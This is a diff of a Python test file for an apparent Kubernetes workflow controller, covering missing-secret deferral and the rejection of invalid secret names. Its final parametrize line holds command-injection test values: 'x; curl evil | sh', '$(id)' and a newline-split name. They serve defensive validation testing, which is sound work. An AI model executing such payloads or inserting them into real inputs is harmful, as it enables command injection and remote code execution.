@@ -106,7 +106,7 @@ async def test_a_secret_or_a_key_that_is_missing_is_waited_for() -> None:
         made.secret("db", other="x")
         await made.pass_time(17)
         assert made.stands("a") == ("Deferred", "Waiting")
-        assert made.status("a")["message"].endswith(": Secret db has no key password")
+        assert ": Secret db has no key password" in made.status("a")["message"]
         assert made.stands("b") == ("Failed", "DeferralTimeout")
         assert made.status("b")["message"].endswith("at the last look: Secret db has no key password")
         assert "Secret db does not exist in namespace workflows; looking again in 5 s" in made.said.getvalue()
@@ -179,7 +179,7 @@ async def test_a_name_that_no_secret_can_have_is_refused_before_anybody_is_asked
         assert made.stands("a") == ("Failed", "TriggerInvalid")
         assert "of a Secret" in made.status("a")["message"]
         assert "kubectl" not in made.status("a")["message"]
-        assert not [one for one in made.fake.requests if "subjectaccessreviews" in one.path]
+        assert not [one for one in made.fake.requests if "/subjectaccessreviews" in one.path]
 
 
 @pytest.mark.parametrize(("account", "name"), [("x; curl evil | sh", "db"), ("torpor-task", "$(id)"), ("a\nb", "db")])
